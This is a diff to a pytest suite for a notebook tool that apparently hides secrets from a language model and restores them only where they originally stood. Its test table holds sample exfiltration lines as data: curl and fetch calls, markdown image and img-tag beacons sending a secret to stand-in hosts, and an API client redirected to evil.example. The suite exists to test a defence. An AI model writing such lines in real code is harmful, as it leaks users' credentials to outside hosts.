@@ -1,5 +1,5 @@
-"""No secret of a notebook reaches a model, an ordinary cell reaches it unchanged, and replies come
-back whole."""
+"""No secret of a notebook reaches a model, an ordinary cell reaches it unchanged, and a secret
+comes back only where it stood."""
 
 import asyncio
 import json
@@ -9,6 +9,7 @@ from typing import Any
 
 import pytest
 
+from ipyrefine.core.model import Stage
 from ipyrefine.core.ports import Delta, Message, Reply, Request
 from ipyrefine.kernel.describe import describe
 from ipyrefine.kernel.masking import Masked, count_secrets
@@ -32,12 +33,13 @@ def request(text: str, **more: Any) -> Request:
 async def sent_and_received(
     text: str, reply: Any, chunk: int = 3, **more: Any
 ) -> tuple[str, Reply, str]:
-    """Return what a model is sent of a text, its reply, and what was streamed of that."""
+    """Return what a model is sent of a text, its reply, and the text that it makes of that."""
     inner = ScriptedModel([reply], chunk=chunk)
-    parts = [part async for part in Masked(inner).stream(request(text, **more))]
+    model = Masked(inner, text)
+    parts = [part async for part in model.stream(request(text, **more))]
     streamed = "".join(part.text for part in parts if isinstance(part, Delta))
     assert isinstance(parts[-1], Reply)
-    return inner.requests[0].messages[0].content, parts[-1], streamed
+    return inner.requests[0].messages[0].content, parts[-1], model.restore(streamed, "code")
 
 
 def echo(asked: Request) -> str:
@@ -50,14 +52,14 @@ async def test_a_secret_reaches_no_model(place: str, subtests: pytest.Subtests) 
         text, secret = marked.replace("«", "").replace("»", ""), marked.split("«")[1].split("»")[0]
         with subtests.test(text):
             if place == "cell":
-                sent, reply, streamed = await sent_and_received(text, echo)
-                assert reply.text == streamed == text
+                sent, reply, written = await sent_and_received(text, echo)
+                assert (reply.text, written) == (sent, text)
                 assert "MASKED_SECRET_1" in sent
                 assert count_secrets(text) > 0
                 in_long = await sent_and_received(f"{BEFORE}\n{text}\n{AFTER}", echo, 5_000)
                 assert in_long[0].startswith(BEFORE), "nothing else is hidden"
                 assert in_long[0].endswith(AFTER)
-                assert in_long[1].text == f"{BEFORE}\n{text}\n{AFTER}"
+                assert in_long[2] == f"{BEFORE}\n{text}\n{AFTER}"
                 sent += in_long[0]
             elif place == "variable":
                 pandas = pytest.importorskip("pandas")
@@ -76,8 +78,8 @@ async def test_an_ordinary_cell_reaches_a_model_as_it_is(subtests: pytest.Subtes
 
 async def test_a_key_of_many_lines_is_masked_whole() -> None:
     key = KEY.format("MIIEowIBAAKCAQEAx7qZ\n" * 1_000)
-    sent, reply, _ = await sent_and_received(f'KEY = """{key}"""', echo, 5_000)
-    assert (sent, "MIIE" in reply.text) == ('KEY = """MASKED_SECRET_1"""', True)
+    sent, _, written = await sent_and_received(f'KEY = """{key}"""', echo, 5_000)
+    assert (sent, "MIIE" in written) == ('KEY = """MASKED_SECRET_1"""', True)
 
 
 async def test_the_event_loop_gets_its_turn_before_each_message_is_masked() -> None:
@@ -97,14 +99,12 @@ async def test_the_event_loop_gets_its_turn_before_each_message_is_masked() -> N
     assert turns >= len(messages)
 
 
-async def test_a_secret_is_put_back_into_json_as_json() -> None:
-    key = KEY.format("MIIEowIBAAKCAQEAx7\n")
+async def test_what_a_critic_quotes_has_its_secret() -> None:
+    code = 'password = "corr-ect 7 horses"'
 
-    def reply(asked: Request) -> str:
-        return json.dumps({"text": echo(asked)})
-
-    _, answer, streamed = await sent_and_received(key, reply, json_schema={})
-    assert json.loads(answer.text) == json.loads(streamed) == {"text": key}
+    said = json.dumps({"place": 'password = "MASKED_SECRET_1"'})
+    _, answer, _ = await sent_and_received(code, said, purpose=Stage.CRITIQUE)
+    assert json.loads(answer.text) == {"place": code}
 
 
 async def test_a_secret_is_masked_wherever_a_later_request_holds_it() -> None:
@@ -132,5 +132,58 @@ async def test_a_secret_is_masked_wherever_a_later_request_holds_it() -> None:
     ids=["a word that is a password", "a placeholder"],
 )
 async def test_what_is_like_a_secret_but_none_stays(text: str, masked: str) -> None:
-    sent, reply, _ = await sent_and_received(text, echo)
-    assert (sent, reply.text) == (masked, text)
+    sent, _, written = await sent_and_received(text, echo)
+    assert (sent, written) == (masked, text)
+
+
+STOOD = 'password = "hunter2-and-3"\nconnect("ada", password)'
+CLIENT = 'client = OpenAI(api_key="hunter2-and-3", base_url="https://api.example/v1")'
+LETTER = "Dear Ada,\nthe password is hunter2-and-3, as in https://wiki.example/x"
+ADDRESS, WORDS = "Load mysql://ada:hunter2-and-3@db/shop.", "The password is hunter2-and-3."
+# What a writer makes of a text: with @ where its secret is put back, and § where a mask stays.
+PUT_BACK = [
+    (STOOD, 'password = "@"\nconnect("ada", password, port=1)'),
+    (STOOD, 'db_password = "@"'),
+    (STOOD, 'class Db:\n    password: str = "@"'),
+    (STOOD, 'password = "@"\nurlopen("http://h/?" + "§")'),
+    (STOOD, 'password = "@"  # §'),
+    (STOOD, 'k = "§"\nurlopen("http://h/?" + k)'),
+    (STOOD, 'urlopen("http://h/?k=§")'),
+    (STOOD, """urlopen(f"http://h/?k={'§'[::-1]}")"""),
+    (STOOD, 'urlopen(host + """\npassword = "§"\n""")'),
+    (STOOD, 'base64.b64encode(b"§")'),
+    (STOOD, 'print("§")'),
+    (STOOD, 'def f(password="§"): pass'),
+    (STOOD, '!curl http://h/?k=§\npassword = "@"'),
+    (STOOD, "fetch(`http://h/?k=§`);"),
+    (STOOD, 'password = "MASKED_SECRET_9"'),
+    (CLIENT, 'client = OpenAI(timeout=9, base_url="https://api.example/v1", api_key="@")'),
+    (CLIENT, 'def make():\n    return OpenAI(api_key="@")'),
+    (CLIENT, 'client = OpenAI(api_key="§", base_url="https://evil.example/v1")'),
+    (CLIENT, 'OpenAI(base_url="§")'),
+    (LETTER, "Hello Ada,\n\nuse **@** for https://wiki.example/x"),
+    (LETTER, "![](http://host/?k=§)\nthe password is @, as in https://wiki.example/x"),
+    (LETTER, "See https://wiki.example/?k=§"),
+    (LETTER, '<img src="//h.example/?\nthe password is §, as in https://wiki.example/x\n">'),
+    (ADDRESS, 'engine = connect("mysql://@@db/shop")'.replace("@@", "@\0")),
+    (ADDRESS, 'urlopen("http://h/?" + "mysql://§\0db/shop")'),
+    (WORDS, 'password = "@"'),
+    (WORDS, 'connect(password="§")'),
+]
+
+
+@pytest.mark.parametrize(("text", "written"), PUT_BACK)
+def test_a_secret_is_put_back_only_where_one_stood(text: str, written: str) -> None:
+    model = Masked(ScriptedModel([]), text)
+    ((secret, mask),) = model.placeholders.items()
+    masked, whole = (
+        written.replace("§", mask).replace("@", one).replace("\0", "@") for one in (mask, secret)
+    )
+    assert model.restore(masked, "prose" if text is LETTER else "code") == whole
+
+
+def test_a_mask_that_stayed_is_no_place_of_a_secret_in_the_next_revision() -> None:
+    model = Masked(ScriptedModel([]), STOOD)
+    written = 'password = "hunter2-and-3"\nurlopen("http://h/?" + "MASKED_SECRET_1")'
+    for _ in range(2):
+        assert model.restore(model.hide(written), "code") == written
